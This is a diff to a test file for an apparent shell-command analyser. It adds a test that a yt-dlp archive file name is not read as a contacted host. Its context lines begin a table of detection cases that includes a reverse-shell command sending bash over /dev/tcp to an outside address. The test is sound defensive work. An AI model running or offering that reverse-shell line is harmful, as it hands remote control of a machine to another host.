@@ -226,6 +226,11 @@ describe("data that leaves is one flow from its source", () => {
   });
 });
 
+test("the file of a downloader's option is not the host that it contacts", () => {
+  const { facts } = analyse("yt-dlp --download-archive downloaded.txt https://video.test/list");
+  expect(describeActs(facts, "fetch")).toEqual(["1: fetch https://video.test/list"]);
+});
+
 describe("a shell on a connection is seen, a probe is not", () => {
   test.each([
     "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
